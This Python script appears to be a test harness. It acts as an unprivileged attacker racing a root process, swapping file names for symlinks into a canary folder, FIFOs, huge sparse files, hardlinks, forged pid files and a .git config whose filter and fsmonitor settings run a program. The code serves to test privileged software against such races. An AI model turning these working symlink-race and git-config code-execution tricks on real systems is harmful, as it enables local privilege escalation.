"""Plays every trick with names and links that its user can, as fast as it can: `attacker.py SETTINGS`, as root.

SETTINGS is JSON: uid, gid, groups; folders (path -> names to play with); canary (a folder of root's, closed to all
others); signalled (the number of a process of root's); vanishing (names that are removed); seed. It drops its
privileges, prints "ready", and goes on until it is told to end. Each trick puts back what was there, so that the one
who is attacked comes as far as he can.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import shutil
import signal
import stat
import sys
import time
from collections.abc import Callable

ASIDE = ".aside"
GIB = 1 << 30


class Attacker:
    def __init__(self, settings: dict[str, object]) -> None:
        self.canary = str(settings["canary"])
        self.signalled = int(str(settings["signalled"]))
        self.vanishing = list(settings["vanishing"])  # type: ignore[call-overload]
        self.random = random.Random(str(settings["seed"]))
        folders: dict[str, list[str]] = settings["folders"]  # type: ignore[assignment]
        self.places = [(folder, name) for folder, names in folders.items() for name in names]

    def run(self) -> None:
        while True:
            folder, name = self.random.choice(self.places)
            try:
                handle = os.open(folder, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW)
            except OSError:
                continue
            try:
                os.fchdir(handle)
                self.trick(name)
            except OSError:
                pass
            finally:
                os.close(handle)
            time.sleep(self.random.choice((0.0, 0.0005, 0.003)))

    def trick(self, name: str) -> None:
        """Have something else stand at a name for a moment."""
        tricks: list[Callable[[str], None]] = [self.to_file, self.to_tree, self.fifo, self.sparse, self.folder]
        tricks += [self.second_name]
        if name in self.vanishing:
            tricks += [self.nothing] * 6
        if name.endswith(".pid"):
            tricks += [self.claim] * 6
        if name == ".git":
            tricks += [self.filter] * 4
        act = self.random.choice(tricks)
        aside = False
        with contextlib.suppress(OSError):
            os.rename(name, name + ASIDE)
            aside = True
        try:
            act(name)
            time.sleep(self.random.choice((0.0, 0.0, 0.0002, 0.002)))
        finally:
            self.clear(name)
            if aside:
                self.put_back(name)

    def put_back(self, name: str) -> None:
        """Let what was there come back, if nothing newer was put there meanwhile."""
        with contextlib.suppress(OSError):
            if not os.path.lexists(name):
                os.rename(name + ASIDE, name)
            elif stat.S_ISDIR(os.lstat(name + ASIDE).st_mode):
                shutil.rmtree(name + ASIDE)
            else:
                os.unlink(name + ASIDE)

    def clear(self, name: str) -> None:
        """Take our own thing away; what was put there meanwhile stays."""
        with contextlib.suppress(OSError):
            info = os.lstat(name)
            if info.st_uid == os.geteuid() and not stat.S_ISDIR(info.st_mode):
                os.unlink(name)
            elif info.st_uid == os.geteuid():
                shutil.rmtree(name)

    def to_file(self, name: str) -> None:
        os.symlink(f"{self.canary}/{self.random.choice(('secret', 'run', 'new'))}", name)

    def to_tree(self, name: str) -> None:
        os.symlink(f"{self.canary}/tree", name)

    def fifo(self, name: str) -> None:
        os.mkfifo(name, 0o666)

    def sparse(self, name: str) -> None:
        handle = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        try:
            os.ftruncate(handle, 3 * GIB)
        finally:
            os.close(handle)

    def folder(self, name: str) -> None:
        os.mkdir(name, 0o777)
        os.symlink(f"{self.canary}/secret", f"{name}/{os.path.basename(name)}")

    def second_name(self, name: str) -> None:
        # Where the kernel lets us (fs.protected_hardlinks=0): a second name of root's own file.
        top = "/" + os.getcwd().split("/")[1]
        os.link(f"{top}/canary-file", name)

    def nothing(self, name: str) -> None:
        """Have it vanish, so that it is made anew."""
        os.unlink(name + ASIDE)

    def claim(self, name: str) -> None:
        """Name root's process, and a program to start when it has gone."""
        with open(name, "w") as file:
            file.write(f"{self.signalled}\n{self.canary}/run -bd\n")

    def filter(self, name: str) -> None:
        """Be a repository that has a program run when it is looked at."""
        if os.path.isdir(name + ASIDE):
            shutil.copytree(name + ASIDE, name, symlinks=True)
            os.makedirs(f"{name}/info", exist_ok=True)
            with open(f"{name}/info/attributes", "w") as file:
                file.write("* filter=x\n")
            with open(f"{name}/config", "a") as file:
                file.write(f'[filter "x"]\n\tclean = {self.canary}/run\n[core]\n\tfsmonitor = {self.canary}/run\n')
            time.sleep(self.random.choice((0.0, 0.05)))


def main() -> None:
    settings = json.loads(sys.argv[1])
    os.setgroups(settings["groups"])
    os.setgid(settings["gid"])
    os.setuid(settings["uid"])
    os.umask(0)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))  # what a trick has moved aside is put back
    print("ready", flush=True)
    Attacker(settings).run()


if __name__ == "__main__":
    main()
